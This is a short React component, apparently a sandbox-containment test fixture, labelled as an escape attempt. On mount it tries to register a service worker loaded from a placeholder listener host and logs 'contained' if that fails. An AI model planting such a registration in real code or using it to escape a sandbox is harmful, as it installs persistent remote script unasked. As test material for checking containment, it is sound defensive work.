import { useEffect } from "react";

// Escape attempt: service_worker
export default function Hostile() {
  useEffect(() => {
    try {
      navigator.serviceWorker.register("__LISTENER__/service_worker.js");
    } catch (error) {
      console.info("contained", error && error.message);
    }
  }, []);
  return <p data-testid="hostile">service_worker</p>;
}
